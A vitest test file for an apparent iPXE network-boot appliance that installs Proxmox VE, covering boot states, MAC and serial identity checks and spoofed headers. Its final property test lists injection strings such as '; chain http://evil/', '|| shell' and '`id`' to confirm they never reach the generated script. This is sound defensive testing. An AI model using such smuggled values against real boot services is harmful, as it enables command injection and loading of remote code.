import fc from 'fast-check'
import { afterEach, describe, expect, test } from 'vitest'
import type { Ipv4 } from '../../services/kit/ipv4.ts'
import type { Mac } from '../../services/kit/mac.ts'
import { NODE1, STRANGER } from '../machine/rig.ts'
import { ELSEWHERE, HERE, Rig, type RigOptions } from './rig.ts'

let rig: Rig
const start = async (options?: RigOptions): Promise<Rig> => (rig = await Rig.start(options))
afterEach(() => rig.close())

const ME = `http://10.77.0.1/boot.ipxe?mac=${NODE1}&uuid=\${uuid}&serial=\${serial:uristring}&product=\${product:uristring}`
const KEY = (ms: number): string =>
  `prompt --key m --timeout ${ms} Press m for a menu && chain --replace ${ME}&choice=menu ||`
const LOCAL = [
  'iseq ${platform} efi && exit 1 ||',
  'sanboot --no-describe --drive 0x80 ||',
  `chain --replace ${ME}&disk=failed ||`,
  'exit 1',
  '',
]

const WHO = 'echo MAC ${netX/mac} serial ${serial} uuid ${uuid}'

describe('the script of each state', () => {
  test.each([
    ['installing', 'the answer was served: booting the local disk', []],
    ['installed', 'installed: booting the local disk', []],
    [
      'failed',
      'the installation failed: booting the local disk',
      ['Reason: no disk', 'See more: rackrise machine timeline node1'],
    ],
    [
      'stalled',
      'the installation stalled: booting the local disk',
      ['Reason: nothing heard for 20m, last stage ipxe', 'See more: rackrise machine timeline node1'],
    ],
    ['held', 'NOT APPROVED: nothing is installed on this machine', ['Approve it: rackrise machine approve node1']],
  ] as const)('%s boots its disk', async (state, text, advice) => {
    await start()
    await rig.bring(state)
    const reply = await rig.script()
    const shown = advice.map(line => `echo ${line}`)
    const identity = advice.length === 0 ? [KEY(2000)] : [WHO, ...shown, KEY(5000)]
    expect([reply.status, reply.text]).toEqual([
      200,
      ['#!ipxe', `echo Rackrise: node1: ${text}`, ...identity, ...LOCAL].join('\n'),
    ])
    expect((await rig.types()).at(-1)).toBe('local-disk-told')
    expect(rig.node1.state).toBe(state)
  })

  test.each(['approved', 'booting'] as const)('%s installs', async state => {
    await start()
    await rig.bring(state)
    const { attempt } = rig
    const reply = await rig.script()
    expect([reply.status, reply.headers['content-type'], reply.headers['cache-control']]).toEqual([
      200,
      'text/plain; charset=utf-8',
      'no-store',
    ])
    const lines = reply.text.split('\n')
    expect([...lines.slice(0, 3), ...lines.filter(line => /^(kernel|initrd) /.test(line))]).toEqual([
      '#!ipxe',
      `echo Rackrise: installing Proxmox VE 9.2 on node1, attempt ${attempt}`,
      KEY(2000),
      `kernel http://10.77.0.1/boot/${attempt}/vmlinuz initrd=initrd.img rw quiet splash=silent proxmox-start-auto-installer console=ttyS0,115200 || goto again`,
      `initrd http://10.77.0.1/boot/${attempt}/initrd.img || goto again`,
    ])
    expect([rig.node1.state, (await rig.types()).at(-1)]).toEqual(['booting', 'script-served'])
  })

  test('blocked is refused, with the way out', async () => {
    await start()
    await rig.bring('blocked')
    const reply = await rig.script()
    expect([reply.status, reply.text]).toEqual([
      403,
      'this machine is blocked; `rackrise machine approve` is the way out\n',
    ])
  })

  test('a machine that is ignored is refused, and told by whom', async () => {
    await start({ more: '[boot]\nunknown = "ignore"\n' })
    rig.holders.set(ELSEWHERE, STRANGER)
    const reply = await rig.script('', { mac: STRANGER, from: ELSEWHERE })
    expect([reply.status, reply.text]).toEqual([
      403,
      'this machine is not in the site file, and boot.unknown is "ignore"; list it\n',
    ])
  })
})

test('a machine that comes back without its disk installs again, three times, then fails', async () => {
  await start()
  await rig.bring('installing')
  for (const resumes of [1, 2, 3]) {
    await rig.script()
    rig.clock.advance(30_000)
    expect((await rig.script('&disk=failed')).text).toContain('\nkernel http://')
    expect(rig.node1.attempt?.resumes).toBe(resumes)
    await rig.happen({
      type: 'answer-served',
      attempt: rig.attempt,
      address: HERE,
      layers: [],
      sha256: '',
      leftOut: [],
      withToken: true,
    })
  }
  await rig.script()
  const last = await rig.script('&disk=failed')
  expect(last.text).toBe(
    [
      '#!ipxe',
      'echo Rackrise: node1: the installation failed: booting the local disk',
      WHO,
      'echo Reason: its disk did not boot after 3 resumed installations',
      'echo See more: rackrise machine timeline node1',
      'sleep 5',
      'echo Rackrise: no bootable local disk',
      'exit 1',
      '',
    ].join('\n'),
  )
  expect([rig.node1.state, rig.node1.reason]).toEqual(['failed', 'its disk did not boot after 3 resumed installations'])
})

describe('an attempt whose image is not there fails with a reason, and the machine boots its disk', () => {
  test('no ISO fits', async () => {
    await start({ releases: ['8.4'] })
    await rig.approve()
    expect((await rig.script()).text).toContain('echo Rackrise: node1: the installation failed')
    expect(rig.node1.reason).toBe(
      `no ISO fits "pve:9.2"; there is proxmox-ve_8.4-1.iso (pve 8.4-1); put one into ${rig.folder}/isos, or correct the profile's iso`,
    )
  })
})

describe('who is asking?', () => {
  const SAY_WHO =
    '#!ipxe\nchain --replace /boot.ipxe?mac=${netX/mac}&uuid=${uuid}&serial=${serial:uristring}&product=${product:uristring}\n'

  test('without a MAC, from an address that nobody holds: asked to say', async () => {
    await start()
    expect((await rig.plain('/boot.ipxe', { from: ELSEWHERE })).text).toBe(SAY_WHO)
  })

  test('without a MAC, from the lease of node1: it is node1', async () => {
    await start()
    expect((await rig.plain('/boot.ipxe')).text).toContain('echo Rackrise: node1: NOT APPROVED')
  })

  test.each([
    ['an InfiniBand port', '80:00:02:08:fe:80:00:00:00:00:00:00:e4:1d:2d:03:00:a0:b1:c2'],
    ['an empty setting', ''],
    ['nonsense', 'x'],
  ])('%s is refused instead of being asked for ever', async (_, mac) => {
    await start()
    const reply = await rig.script('', { mac, from: ELSEWHERE })
    expect([reply.status, reply.text]).toEqual([
      400,
      'mac is not the address of an Ethernet NIC; boot from one, or send mac=${netX/mac}\n',
    ])
  })

  test('parameters that come twice are not taken', async () => {
    await start()
    const reply = await rig.script(`&mac=${STRANGER}&uuid=a&uuid=b&serial=A1&serial=A2&disk=failed&disk=failed`)
    expect(reply.status).toBe(200)
    expect([rig.node1.macs, rig.node1.serial]).toEqual([[NODE1], undefined])
  })

  test('a machine that is asked from another address than its lease', async () => {
    await start()
    await rig.approve()
    rig.holders.set(ELSEWHERE, STRANGER)
    for (const from of [ELSEWHERE, '127.0.0.77' as Ipv4]) {
      const reply = await rig.script('', { from })
      expect([reply.status, reply.text]).toEqual([
        403,
        `${NODE1} does not stand at ${from}; boot it from the network of this appliance\n`,
      ])
    }
    expect(rig.node1.state).toBe('approved')
  })

  test('one client cannot fill the fleet with machines that do not exist', async () => {
    await start()
    for (let n = 0; n < 10; n++) expect((await rig.script('', { mac: `02:00:00:00:00:0${n}` })).status).toBe(403)
    expect(rig.registry.machines()).toHaveLength(1)
  })

  test('L07 a header that claims another address changes nothing', async () => {
    await start()
    const reply = await rig.script('', {
      from: ELSEWHERE,
      headers: { 'x-forwarded-for': HERE, forwarded: `for=${HERE}` },
    })
    expect(reply.status).toBe(403)
  })

  test.each(['proxy', 'off'])('mode %s: who stands at an address of our link is known without a lease', async mode => {
    await start({ dhcp: `[dhcp]\nmode = "${mode}"` })
    const asked = async (how: object) => (await rig.script('', how)).status
    expect([await asked({}), await asked({ mac: STRANGER })]).toEqual([200, 403])
    // Neither on our link nor in a subnet of the site.
    expect([await asked({ from: ELSEWHERE }), await asked({ from: ELSEWHERE, mac: STRANGER })]).toEqual([403, 403])
    expect(rig.registry.byMac(STRANGER as Mac)).toBeUndefined()
  })

  test('where another server gives addresses the MAC of a machine behind a router is believed', async () => {
    await start({ dhcp: '[dhcp]\nmode = "proxy"\n[[dhcp.subnet]]\nprefix = "127.0.0.0/8"\nrelays = ["127.0.0.2"]' })
    const reply = await rig.script('', { from: ELSEWHERE, mac: STRANGER })
    expect([reply.status, rig.registry.byMac(STRANGER as Mac)?.state]).toEqual([200, 'held'])
  })

  test('what iPXE knows of the machine is learned, placeholders are not', async () => {
    await start()
    await rig.script(
      '&uuid=4C4C4544-004B-3210-8051-B7C04F583933&serial=7K2QX93&product=Standard%20PC%20(Q35%20+%20ICH9,%202009)',
    )
    expect(rig.node1).toMatchObject({
      uuid: '4c4c4544-004b-3210-8051-b7c04f583933',
      serial: '7K2QX93',
      product: 'Standard PC (Q35 + ICH9, 2009)',
    })
    await rig.script(
      '&uuid=03000200-0400-0500-0006-000700080009&serial=Default%20string&product=To%20Be%20Filled%20By%20O.E.M.',
    )
    expect(rig.node1).toMatchObject({
      uuid: '4c4c4544-004b-3210-8051-b7c04f583933',
      serial: '7K2QX93',
      product: 'Standard PC (Q35 + ICH9, 2009)',
    })
  })
})

describe('T2 two boxes with one MAC', () => {
  const OTHER_BOX = '&serial=B2&product=R6525&arch=x86_64'

  test.each([
    ['known when it was approved', {}, 'approved'],
    ['known when it was approved', {}, 'booting'],
    ['of its entry in the site file', { more: 'serial = "A1"\n' }, 'approved'],
  ] as const)('the serial number %s is not that of the second: its disk, and an alarm', async (_, options, state) => {
    await start(options)
    if (!('more' in options)) await rig.script('&serial=A1')
    await rig.bring(state)
    const before = rig.node1
    const reply = await rig.script(OTHER_BOX)
    expect([reply.status, reply.text.split('\n').slice(0, 5)]).toEqual([
      200,
      [
        '#!ipxe',
        'echo Rackrise: node1: NOT APPROVED: nothing is installed on this machine',
        WHO,
        'echo The machine with serial number A1 was approved, and this one says another',
        'echo If its board was replaced: rackrise machine block node1, power-cycle it, then approve it',
      ],
    ])
    expect(rig.node1).toEqual({ ...before, lastEventAt: rig.node1.lastEventAt })
    expect(rig.alarms.list().map(({ code, subject }) => [code, subject])).toEqual([['serial-mismatch', NODE1]])
    expect((await rig.script('&serial=a1&product=R6525&arch=x86_64')).text).toContain('\nkernel http://')
  })

  test('the second does not resume what the first has begun', async () => {
    await start()
    await rig.script('&serial=A1')
    await rig.bring('installing')
    await rig.script('&serial=A1')
    expect((await rig.script(`${OTHER_BOX}&disk=failed`)).text).not.toContain('kernel')
    expect(rig.node1).toMatchObject({ state: 'installing', serial: 'A1' })
  })

  test('a board that was replaced: blocked, booted and approved it is the one that was approved', async () => {
    await start()
    await rig.script('&serial=A1')
    await rig.bring('blocked')
    await rig.script(OTHER_BOX)
    await rig.approve()
    expect((await rig.script(OTHER_BOX)).text).toContain('\nkernel http://')
  })
})

test('property: nothing that a machine says of itself appears in its script', async () => {
  await start()
  const hostile = fc.oneof(
    fc.constantFrom(
      '\nimgfree',
      '${initrd}',
      '|| shell',
      '\r\nset x y',
      '; chain http://evil/',
      '`id`',
      '#!ipxe',
      'A&disk=failed',
      '\u0000',
      '\ufeff',
    ),
    fc.string({ unit: 'binary', maxLength: 40 }),
    fc.string({ maxLength: 40 }),
  )
  // A mark that no word of ours has, so that a part of it would be seen.
  const marked = hostile.map(text => `Zq7${text}Zq7`)
  for (const state of ['held', 'booting'] as const) {
    await rig.bring(state)
    // Else each would be another box than the one before.
    const hasAttempt = state === 'booting'
    const usual = (await rig.script('&product=x&arch=x86_64')).text
    await fc.assert(
      fc.asyncProperty(marked, marked, marked, async (...said) => {
        const [one, two, three] = said.map(text => encodeURIComponent(text.toWellFormed()))
        const serial = hasAttempt ? '' : `&serial=${two}`
        const reply = await rig.script(`&uuid=${one}${serial}&product=${three}&arch=x86_64`)
        expect([reply.status, reply.text]).toEqual([200, usual])
      }),
      { numRuns: 40 },
    )
  }
})
